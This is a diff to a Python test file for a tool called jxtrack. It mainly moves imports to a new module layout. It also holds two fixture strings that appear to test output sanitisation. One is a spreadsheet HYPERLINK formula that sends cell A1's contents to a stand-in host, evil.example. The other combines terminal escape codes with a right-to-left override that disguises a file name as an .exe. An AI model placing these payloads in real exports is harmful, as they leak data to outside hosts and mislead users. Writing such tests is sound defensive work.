@@ -13,9 +13,10 @@ import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
-from jxtrack import cli, outputs
-from jxtrack.auth import OPERATOR
-from jxtrack.importing import commit_import
+from jxtrack.cli import run as cli
+from jxtrack.domain.access import OPERATOR
+from jxtrack.present import outputs
+from jxtrack.services.importing import commit_import
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
 ESCAPES = "report\n2026\x1b[2J\x1b]0;pwned\x07\u202eslx.exe"
